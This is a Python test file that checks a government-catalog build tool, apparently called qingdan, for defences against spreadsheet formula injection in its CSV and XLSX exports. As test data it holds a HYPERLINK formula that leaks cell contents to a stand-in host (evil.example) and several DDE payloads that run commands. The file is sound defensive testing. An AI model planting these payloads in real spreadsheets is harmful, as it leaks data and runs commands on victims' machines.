"""Spreadsheet formula injection: catalog text never becomes a formula.

A spreadsheet program runs a CSV cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or
a carriage return as a formula (``=HYPERLINK(…)``, ``=cmd|' /C calc'!A0``). The build
writes such cells of ``lists/*.csv`` and ``decisions/*.csv`` with a single quote before
them (the OWASP advice), and stores every cell of ``lists/*.xlsx`` as a string, never a
formula; the JSON lists keep the text exactly as written.

The FEEL cells of the decision tables are qingdan's own syntax, not catalog text: one
that starts with ``-`` is the FEEL dash (any value) or a negative number (``-5``,
``-5, null``), which spreadsheet programs read as text or as a number, and a FEEL
reader must see it unchanged, so it is written as it is.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from conftest import run_cli, write_project

from qingdan.lists import columns as c

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
CMD = "=cmd|' /C calc'!A0"
# catalog strings that a spreadsheet would run, one per dangerous first character
FORMULAS = {
    "hyperlink": HYPERLINK,
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cmd": CMD,
}


def _q(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\n", "\\n") + '"'


def formula_project(root: Path) -> Path:
    f = {k: _q(v) for k, v in FORMULAS.items()}
    rules = f'''部门 甲 {f["hyperlink"]} {{ 层级: 市; 联系方式: {f["plus"]} }}
法规 法 {f["at"]} {{ 类型: 法律; 条款 第一条 {f["cmd"]} }}
权力 权 {f["plus"]} {{ 编码: "330100-XK-0001"; 类别: 行政许可; 部门: 甲; 层级: 市; 依据: 法.第一条; 分级: {f["minus"]}; 备注: {f["tab"]} }}
责任 责 {{ 权力: 权; 受理: {f["hyperlink"]}; 审查: {f["minus"]}; 决定: {f["at"]}; 送达: {f["tab"]}; 监管: {f["cmd"]}; 监管部门: 甲; 追责: {f["plus"]}, {f["minus"]}; 依据: 法.第一条 }}
负面清单 负 {f["hyperlink"]} {{ 编码: "101"; 类型: 禁止; 描述: {f["cmd"]}; 主管部门: 甲; 活动: {f["at"]}; 依据: 法.第一条 }}
负面清单 负二 {f["minus"]} {{ 编码: "201"; 类型: 许可; 描述: {f["tab"]}; 主管部门: 甲; 实施: 项; 活动: {f["plus"]}; 依据: 法.第一条 }}
事项 项 {f["hyperlink"]} {{
  编码: "330100-XK-0011"
  权力: 权; 部门: 甲; 层级: 市; 依据: 法.第一条; 对象: 企业法人; 收费: 免费; 渠道: 网上; 到场: 0 次
  结果 证 {f["at"]}
  事实 温度 "温度": 数字
  事实 名字 {f["minus"]}: 文本
  条件 c1 {f["hyperlink"]} {{ 当: 温度 >= -5 且 名字 == {f["cmd"]}; 依据: 法.第一条 }}
  条件 c2 {f["at"]} {{ 当: 温度 != -10; 依据: 法.第一条 }}
  材料 材 {f["cmd"]} {{ 仅当: 温度 == -5; 形式: 原件 }}
  材料 材二 {f["plus"]} {{ 仅当: 名字 == {f["at"]} }}
  材料 材三 {f["tab"]} {{ 形式: 原件 }}
  时限 {{ 法定: 5 工作日; 承诺: 3 工作日 }}
}}
'''
    return write_project(root, {"a.qd": rules})


@pytest.fixture(scope="module")
def out(tmp_path_factory) -> Path:
    tmp = tmp_path_factory.mktemp("formulas")
    project = formula_project(tmp / "project")
    target = tmp / "out"
    r = run_cli("build", project, "--out", target, "-q", "--no-site")
    assert r.code == 0, r.output
    return target


def _csv_rows(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


_FEEL_NUMBER_OR_DASH = re.compile(r"-(?:$|[0-9])")


def _feel_columns(rows: list[list[str]]) -> range:
    """The columns of a decision table's CSV holding FEEL input entries (after 规则, before the outputs)."""
    header = rows[0]
    first_output = next(i for i, h in enumerate(header) if re.search(r"\(\w+\)$", h))
    return range(1, first_output)


def test_no_csv_cell_of_the_lists_or_decision_tables_is_a_formula(out):
    files = sorted((out / "lists").glob("*.csv")) + sorted((out / "decisions").glob("*.csv"))
    assert len(files) == 3 + 2
    quoted = 0
    for path in files:
        rows = _csv_rows(path)
        feel = _feel_columns(rows) if path.parent.name == "decisions" else range(0)
        for r, row in enumerate(rows):
            for i, cell in enumerate(row):
                if r > 0 and i in feel and _FEEL_NUMBER_OR_DASH.match(cell):
                    continue  # the FEEL dash or a negative number, written by qingdan
                assert not cell.startswith(DANGEROUS), (path.name, r, i, cell)
                quoted += cell.startswith("'") and cell[1:].startswith(DANGEROUS)
    assert quoted >= 20, "the catalog's formulas are there, behind a quote"


def test_every_formula_of_the_catalog_reaches_the_csv_lists_behind_a_quote(out):
    texts = set(FORMULAS.values())
    for kind, stem in c.FILE_STEMS.items():
        rows = _csv_rows(out / "lists" / f"{stem}.csv")
        doc = json.loads((out / "lists" / f"{stem}.json").read_text(encoding="utf-8"))
        columns = doc["columns"]
        assert [[r[col] for col in columns] for r in doc["rows"]] == [[_unquote(x) for x in row] for row in rows[1:]], kind
        cells = {x for row in rows[1:] for x in row}
        assert {"'" + t for t in texts} & cells, kind
        assert not (texts & cells), kind


def _unquote(cell: str) -> str:
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(DANGEROUS) else cell


def test_decision_tables_quote_catalog_text_and_keep_feel_numbers(out):
    rows = {p.name.split(".")[1]: _csv_rows(p) for p in (out / "decisions").glob("*.csv")}
    eligibility, materials = rows["eligibility"], rows["materials"]
    flat = {x for table in (eligibility, materials) for row in table for x in row}
    assert "'" + CMD in flat and "'" + FORMULAS["plus"] in flat and "'" + FORMULAS["tab"] in flat
    assert "'" + HYPERLINK in flat and "'" + FORMULAS["at"] in flat
    assert not set(FORMULAS.values()) & flat
    feel = {row[1] for row in materials[1:]} | {row[1] for row in eligibility[1:]}
    assert "-5" in feel and "-5, null" in feel and "-" in feel, feel
    assert "< -5" in feel
    doc = json.loads(next((out / "decisions").glob("*.json")).read_text(encoding="utf-8"))
    names = {o["outputEntries"].get("name") for t in doc["tables"] for o in t["rules"]}
    assert CMD in names, "the JSON tables keep the text as written"


def test_no_xlsx_cell_is_a_formula_and_every_text_is_kept(out):
    from openpyxl import load_workbook

    for kind, stem in c.FILE_STEMS.items():
        wb = load_workbook(out / "lists" / f"{stem}.xlsx")
        ws = wb.active
        formulas = [(cell.coordinate, cell.value) for row in ws.iter_rows() for cell in row if cell.data_type == "f"]
        assert not formulas, (kind, formulas)
        doc = json.loads((out / "lists" / f"{stem}.json").read_text(encoding="utf-8"))
        cells = [["" if v is None else str(v) for v in row] for row in ws.iter_rows(values_only=True)]
        assert cells[1:] == [[r[col] for col in doc["columns"]] for r in doc["rows"]], kind
        assert set(FORMULAS.values()) & {x for row in cells for x in row}, kind


def test_csv_text_quotes_each_dangerous_first_character():
    from qingdan.lists.cells import csv_plain, csv_text
    from qingdan.lists.export import list_csv

    for start in DANGEROUS:
        assert csv_text(start + "1+1") == "'" + start + "1+1"
    for safe in ("", "1", "'x", "甲=1", " =1", "＝1", "\n=1"):
        assert csv_text(safe) == safe
    for text in ("=1", "'=1", "''=1", "'x", "x", "", "-", "@a", "'"):
        assert csv_plain(csv_text(text)) == text, "a reader gets the text back exactly"
    text = list_csv(["a", "b"], [{"a": "=1+1", "b": "\r=2"}])
    assert list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))[1] == ["'=1+1", "'\r=2"]


def test_xlsx_keeps_formula_like_text_as_text():
    from openpyxl import load_workbook

    from qingdan.lists.export import list_xlsx

    data = list_xlsx("清单", ["序号", "名称"], [{"序号": "1", "名称": HYPERLINK}, {"序号": "2", "名称": "=1+1"}])
    ws = load_workbook(io.BytesIO(data)).active
    assert [(cell.value, cell.data_type) for cell in ws["B"]][1:] == [(HYPERLINK, "s"), ("=1+1", "s")]
    assert ws["A2"].value == 1 and ws["A2"].data_type == "n"
